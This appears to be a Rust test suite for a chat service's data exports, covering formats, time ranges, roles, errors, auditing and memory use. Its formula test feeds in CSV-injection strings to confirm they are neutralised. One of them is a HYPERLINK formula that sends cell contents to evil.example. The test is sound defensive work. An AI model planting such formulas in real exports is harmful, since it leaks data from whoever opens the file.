//! Exports: their forms, time ranges and roles, harmless formulas, and constant memory when large.

use crate::{Shared, alone};
use libtest_mimic::Trial;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use vikno_tests::citizen::Citizen;
use vikno_tests::eventually;
use vikno_tests::http::{Answer, lines};
use vikno_tests::installation::Installation;
use vikno_tests::operator::Operator;

const DATASETS: [&str; 4] = ["conversations", "messages", "journal", "ratings"];

pub(crate) fn tests(shared: &Shared) -> Vec<Trial> {
    vec![
        shared.test("exports::json_ndjson_and_csv_tell_the_same", forms),
        shared.test("exports::no_cell_is_a_formula", formulas),
        shared.test("exports::a_time_range_is_kept_to_the_instant", ranges),
        shared.test("exports::roles_decide_who_takes_what", roles),
        shared.test("exports::wrong_requests_are_told_what_is_right", mistakes),
        shared.test("exports::each_is_in_the_audit", audited),
        alone("exports::a_large_one_takes_no_more_memory", large),
    ]
}

/// A dialogue that is over, so that its rows change no more; its id.
fn finished(installation: &Installation, org: &str, words: &str) -> String {
    let mut citizen = Citizen::new(installation, org, "web", "uk");
    citizen.open();
    citizen.wait_for("a greeting", |seen| !seen.buttons.is_empty());
    citizen.say(words);
    citizen.wait_for("a reply", |seen| !seen.text.is_empty());
    citizen.click("end");
    citizen.wait_for("the question for a rating", |seen| {
        seen.buttons.iter().any(|button| button == "vote:5")
    });
    citizen.vote(4);
    citizen.wait_for("thanks", |seen| !seen.text.is_empty());
    eventually("the dialogue is over", || {
        (citizen.chat_view()["status"] == "closed").then_some(())
    });
    let messages = installation.export(org, "messages").into_iter();
    let mut own = messages.filter(|message| message["text"] == words);
    let own = own.next().expect("its message is in the export");
    own["conversation_id"].as_str().expect("an id").to_owned()
}

/// An export as the administrator gets it.
fn get(installation: &Installation, path: &str, accept: &str) -> Answer {
    let administrator = installation.administrator();
    let headers = [
        ("authorization", administrator.as_str()),
        ("accept", accept),
    ];
    installation.get(path, &headers)
}

/// The rows of one dialogue.
fn of(rows: Vec<Value>, dataset: &str, id: &str) -> Vec<Value> {
    let field = match dataset {
        "conversations" => "id",
        _ => "conversation_id",
    };
    rows.into_iter().filter(|row| row[field] == id).collect()
}

/// CSV as a reader of RFC 4180 takes it: the heading and the rows by column.
fn table(csv: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut reader = csv::Reader::from_reader(csv);
    let heading: Vec<String> = reader
        .headers()
        .expect("a heading")
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader.records().map(|record| {
        let record = record.expect("as many cells as the heading");
        let cells = record.iter().map(str::to_owned);
        heading.iter().cloned().zip(cells).collect()
    });
    let rows = rows.collect();
    (heading, rows)
}

fn forms(installation: &Installation) {
    let id = finished(installation, "minsoc", "слово, \"лапки\"\nі другий рядок");
    for dataset in DATASETS {
        let path = format!("/minsoc/export/{dataset}");
        let whole = get(installation, &format!("{path}.json"), "*/*").expect(200);
        assert_eq!(whole.header("content-type"), Some("application/json"));
        assert_eq!(whole.header("cache-control"), Some("no-store"));
        let file = format!("attachment; filename=\"minsoc-{dataset}.json\"");
        assert_eq!(whole.header("content-disposition"), Some(file.as_str()));
        let rows = whole.json().as_array().cloned().expect("an array");
        let rows = of(rows, dataset, &id);
        assert!(!rows.is_empty(), "{dataset}");

        let split = get(installation, &path, "application/x-ndjson").expect(200);
        assert_eq!(split.header("content-type"), Some("application/x-ndjson"));
        let text = split.text();
        let split = text
            .lines()
            .map(|line| serde_json::from_str(line).expect("a line is an object"));
        assert_eq!(of(split.collect(), dataset, &id), rows, "{dataset}");

        let csv = get(installation, &format!("{path}.csv"), "*/*").expect(200);
        let content_type = csv.header("content-type");
        assert!(content_type.is_some_and(|kind| kind.starts_with("text/csv; charset=utf-8")));
        assert!(csv.body.ends_with(b"\r\n"), "{dataset}");
        let (heading, cells) = table(&csv.body);
        // The columns are the fields, in the same order.
        let line = text.lines().next().expect("a line");
        let places: Vec<usize> = heading
            .iter()
            .map(|name| line.find(&format!("\"{name}\":")).expect(name))
            .collect();
        assert!(places.is_sorted(), "{heading:?} {line}");
        let field = if dataset == "conversations" {
            "id"
        } else {
            "conversation_id"
        };
        let cells: Vec<_> = cells.into_iter().filter(|row| row[field] == id).collect();
        assert_eq!(cells.len(), rows.len(), "{dataset}");
        for (cells, row) in cells.iter().zip(&rows) {
            for name in &heading {
                let told = match &row[name] {
                    Value::Null => String::new(),
                    Value::String(text) => text.clone(),
                    document => document.to_string(),
                };
                assert_eq!(cells[name], told, "{dataset} {name}");
            }
        }

        let bom = get(installation, &format!("{path}.csv?bom=1"), "*/*").expect(200);
        assert!(bom.body.starts_with(b"\xEF\xBB\xBF"), "{dataset}");
        assert!(!csv.body.starts_with(b"\xEF\xBB\xBF"), "{dataset}");
    }
}

fn formulas(installation: &Installation) {
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"натисніть\")",
        "+380441234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ];
    let harmless = ["слово = слово", "а-б", "5"];
    let mut citizen = Citizen::new(installation, "mou", "web", "uk");
    citizen.open();
    citizen.wait_for("a greeting", |seen| !seen.buttons.is_empty());
    for words in hostile.iter().chain(&harmless) {
        citizen.say(words);
        citizen.wait_for("a reply", |seen| !seen.text.is_empty());
    }
    let csv = get(installation, "/mou/export/messages.csv", "*/*").expect(200);
    let (_, rows) = table(&csv.body);
    let cells: Vec<&str> = rows.iter().map(|row| row["text"].as_str()).collect();
    let messages = installation.export("mou", "messages");
    for words in hostile {
        let kept = messages.iter().any(|message| message["text"] == words);
        assert!(kept, "JSON tells {words:?} as it was written");
        assert!(cells.contains(&format!("'{words}").as_str()), "{words:?}");
    }
    for words in harmless {
        assert!(cells.contains(&words), "{words:?}");
    }
    for row in &rows {
        for (name, cell) in row {
            let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            assert!(!dangerous, "{name}: {cell:?}");
        }
    }
}

fn ranges(installation: &Installation) {
    let id = finished(installation, "diia", "межі часу");
    let all = of(installation.export("diia", "messages"), "messages", &id);
    let at = |index: usize| all[index]["at"].as_str().expect("a time").to_owned();
    let (first, last) = (at(0), at(all.len() - 1));
    assert!(first < last, "{all:#?}");
    let within = |from: &str, to: &str| {
        let path = format!("/diia/export/messages.json?from={from}&to={to}");
        let rows = get(installation, &path, "*/*").expect(200).json();
        of(rows.as_array().cloned().expect("an array"), "messages", &id)
    };
    let before = |end: &str| {
        let earlier = all.iter().filter(|row| row["at"].as_str() < Some(end));
        earlier.cloned().collect::<Vec<Value>>()
    };
    assert_eq!(within(&first, ""), all, "from is included");
    assert_eq!(within(&first, &last), before(&last), "to is not included");
    assert_eq!(within("", &first), Vec::<Value>::new());
    assert_eq!(within("2020-01-01", "2099-12-31"), all, "days");
    assert_eq!(within("2020-01-01", "2020-12-31"), Vec::<Value>::new());
    // The same instant where the organisation is: three hours ahead, the plus escaped.
    let (date, time) = first.split_once('T').expect("RFC 3339");
    let hour: u32 = time[..2].parse().expect("an hour");
    if hour < 21 {
        let local = format!("{date}T{:02}{}%2B03:00", hour + 3, &time[2..time.len() - 1]);
        assert_eq!(within(&local, &last), before(&last), "{local}");
    }
}

fn roles(installation: &Installation) {
    // Role, what is open to it: conversations, messages, journal, ratings.
    let table = [
        ("analyst", [200, 200, 200, 200]),
        ("supervisor", [200, 200, 200, 200]),
        ("security", [403, 403, 200, 403]),
        ("operator", [403, 403, 403, 403]),
        ("author", [403, 403, 403, 403]),
    ];
    for (role, expected) in table {
        let person = Operator::hire(installation, "osvita", &format!("exports-{role}"), role);
        let headers = [("authorization", person.authorization())];
        for (dataset, status) in DATASETS.iter().zip(expected) {
            let answer = installation.get(&format!("/osvita/export/{dataset}.json"), &headers);
            assert_eq!(answer.status, status, "{role} {dataset}: {}", answer.text());
            let elsewhere = installation.get(&format!("/mon/export/{dataset}.json"), &headers);
            assert_eq!(elsewhere.status, 403, "{role} of another organisation");
        }
    }
    for headers in [vec![], vec![("authorization", "Bearer forged.token.here")]] {
        let answer = installation.get("/osvita/export/messages.json", &headers);
        assert_eq!(answer.status, 401, "{}", answer.text());
        assert_eq!(
            answer.header("content-type"),
            Some("application/problem+json")
        );
    }
}

fn mistakes(installation: &Installation) {
    for (path, accept, status, code) in [
        ("/ukc/export/people", "*/*", 404, "unknown_export"),
        ("/ukc/export/messages.xml", "*/*", 404, "unknown_export"),
        (
            "/nobody/export/messages",
            "*/*",
            404,
            "unknown_organisation",
        ),
        (
            "/ukc/export/messages",
            "application/xml",
            406,
            "not_acceptable",
        ),
        (
            "/ukc/export/messages?from=yesterday",
            "*/*",
            400,
            "invalid_range",
        ),
        (
            "/ukc/export/messages?from=2026-11-02&to=2026-11-01",
            "*/*",
            400,
            "invalid_range",
        ),
    ] {
        let answer = get(installation, path, accept);
        assert_eq!(answer.status, status, "{path}: {}", answer.text());
        let problem = answer.json();
        let kind = problem["type"].as_str().unwrap_or_default();
        assert!(kind.ends_with(code), "{path}: {problem}");
    }
    let administrator = installation.administrator();
    let headers = [("authorization", administrator.as_str())];
    let answer = installation.post("/ukc/export/messages", &headers, &json!({}));
    assert_eq!(answer.status, 405);
    assert_eq!(answer.header("allow"), Some("GET"));
}

fn audited(installation: &Installation) {
    let analyst = Operator::hire(installation, "mzs", "audited-analyst", "analyst");
    let headers = [("authorization", analyst.authorization())];
    let path = "/mzs/export/ratings.csv?from=2026-01-02&to=2026-01-03";
    installation.get(path, &headers).expect(200);
    let administrator = installation.administrator();
    let headers = [("authorization", administrator.as_str())];
    let audit = installation.get("/core/admin/audit", &headers).expect(200);
    let audit = audit.json();
    let lines = audit["audit"].as_array().expect("lines");
    let taken: Vec<&Value> = lines
        .iter()
        .filter(|line| line["what"] == "data_exported" && line["org"] == "mzs")
        .filter(|line| line["target"] == "ratings" && line["data"]["format"] == "csv")
        .collect();
    assert_eq!(taken.len(), 1, "{lines:#?}");
    // From the midnight of Kyiv, two days.
    assert_eq!(taken[0]["data"]["from_ms"], 1_767_304_800_000_i64);
    assert_eq!(taken[0]["data"]["to_ms"], 1_767_477_600_000_i64);
}

/// Many more bytes than the host may keep: rows of half a kilobyte.
fn large() {
    const ROWS: i64 = 150_000;
    const ROW_BYTES: i64 = 500;
    const MORE_BYTES_MAX: u64 = 24 * 1024 * 1024;
    let mut installation = Installation::start();
    let id = finished(&installation, "ukco", "перше з багатьох");
    installation.kill();
    installation
        .database("ukco")
        .execute(
            "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
             INSERT INTO messages (id, conversation_id, citizen_id, author, text, at_ms)
             SELECT 'm_large_' || i, ?2, 'p_large', 'robot', i || ' ' || hex(zeroblob(?3)), i FROM n",
            rusqlite::params![ROWS, id, ROW_BYTES / 2],
        )
        .expect("rows");
    installation.start_again();

    let administrator = installation.administrator();
    let headers = [
        ("authorization", administrator.as_str()),
        ("accept", "application/x-ndjson"),
    ];
    let url = format!(
        "{}/ukco/export/messages?to=1970-01-02T00:00:00Z",
        installation.url
    );
    // Once for what any first call takes: compiled code, a connection, the pages that SQLite keeps.
    let mut count = 0;
    lines(
        &format!("{url}&from=1970-01-01T00:02:20Z"),
        &headers,
        |_| {
            count += 1;
        },
    );
    assert_eq!(count, ROWS - 140_000 + 1);
    let before = installation.own_memory_bytes();
    let (mut count, mut bytes, mut most) = (0, 0, 0);
    lines(&url, &headers, |line| {
        count += 1;
        bytes += line.len() as u64;
        assert!(line.starts_with(&format!("{{\"id\":\"m_large_{count}\"")));
        if count % 1_000 == 0 {
            most = most.max(installation.own_memory_bytes());
        }
    });
    assert_eq!(count, ROWS);
    assert!(bytes > 4 * MORE_BYTES_MAX, "{bytes} bytes are not much");
    let more = most.saturating_sub(before);
    println!("an export of {bytes} bytes: {before} bytes before, {more} more at the most");
    assert!(more < MORE_BYTES_MAX, "{more} bytes more than {before}");
}
